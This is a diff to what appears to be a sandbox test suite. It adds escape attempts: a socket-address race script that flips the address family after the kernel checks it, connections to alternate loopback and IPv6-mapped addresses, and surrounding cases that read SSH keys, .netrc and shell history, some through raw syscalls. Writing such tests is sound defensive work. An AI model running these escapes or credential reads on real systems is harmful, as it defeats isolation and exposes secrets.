@@ -66,6 +66,34 @@ def _switching_off() -> dict[str, str]:
     return {f"breaks-{n}": f"{line} 2>/dev/null\n{again}\n{STEAL}\nsleep 0.3\n{B}" for n, line in enumerate(broken)}
 
 
+FLIP = """
+import ctypes, socket, struct, sys, threading, time
+libc = ctypes.CDLL(None)
+family, rest = {
+    "local": (socket.AF_UNIX, b"{HOST}/agent.sock\\0"),
+    "tcp": (socket.AF_INET, struct.pack("!H4B8x", {PORT}, 127, 0, 0, 1)),
+}[sys.argv[1]]
+address = bytearray(struct.pack("=H", 0) + rest)
+seen = (ctypes.c_char * len(address)).from_buffer(address)
+def flip():
+    while True:
+        address[0] = family
+        address[0] = 0
+sys.setswitchinterval(1e-5)
+threading.Thread(target=flip, daemon=True).start()
+until = time.monotonic() + 1.2
+for _ in range(2000):
+    if time.monotonic() > until:
+        break
+    client = socket.socket(family)
+    if libc.connect(client.fileno(), seen, len(address)) == 0:
+        try:
+            client.send(b"x")
+            break
+        except OSError:
+            continue
+"""
+"""The kernel reads an address once more after it asked about it: meanwhile it is another one."""
 READS = {
     "secret": "cat {HOST}/id_rsa",
     "home": "cat ~/id_rsa ~/.ssh/* ~/.netrc /root/.bash_history /root/.netrc /home/*/.ssh/id_*; ls -la ~ /root",
@@ -203,6 +231,13 @@ REACHES = {
     "through-a-thread": python(
         "import threading; a = bytearray(16); struct.pack_into('=H', a, 0, 2); struct.pack_into('>H', a, 2, 1); a[4:8] = b'\\x7f\\0\\0\\1'; b = (ctypes.c_char * 16).from_buffer(a); t = threading.Thread(target=lambda: [struct.pack_into('>H', a, 2, p) for _ in range(30000) for p in (1, {PORT})]); t.start(); [libc.connect(socket.socket().fileno(), b, 16) for _ in range(300)]"
     ),
+    "another-address": python(
+        'o = socket.create_server(("127.0.0.2", {PORT})); c = socket.create_connection(("127.0.0.1", {PORT}), 1); c.send(b"x")\nc = socket.create_connection(("::ffff:127.0.0.1", {PORT}), 1); c.send(b"x")\nc = socket.create_connection(("127.0.0.3", {PORT}), 1); c.send(b"x")'
+    ),
+    "another-address-of-six": python(
+        'o = socket.create_server(("::1", {PORT}), family=10); c = socket.create_connection(("127.0.0.1", {PORT}), 1); c.send(b"x")\nc = socket.create_connection(("::ffff:127.0.0.1", {PORT}), 1); c.send(b"x")'
+    ),
+    "flipped-family": "for kind in local tcp; do timeout 3 python3 flip.py $kind; done",
     "ring": python(
         "print(libc.syscall(425, 8, ctypes.create_string_buffer(200)))\nprint(libc.syscall(437, -100, b'{HOST}/id_rsa', struct.pack('QQQ', 0, 0, 0), 24))"
     ),
@@ -357,8 +392,10 @@ def _all() -> tuple[Attack, ...]:
         "fills": FILLS,
     }  # fmt: skip
     found = [Attack(name, body) for name, body in _switching_off().items()]
-    found += [Attack(f"{group}-{name}", body) for group, table in groups.items() for name, body in table.items()]
-    files = {"forger.py": FORGER}
+    files = {"forger.py": FORGER, "flip.py": FLIP}
+    found += [
+        Attack(f"{group}-{name}", body, files) for group, table in groups.items() for name, body in table.items()
+    ]
     found += [Attack(f"forges-{name}", body, files, no_server=True) for name, body in FORGES.items()]
     found += [Attack(f"pretends-{name}", body, files, none_stays=True) for name, body in PRETENDS.items()]
     ends = ("records", "time")
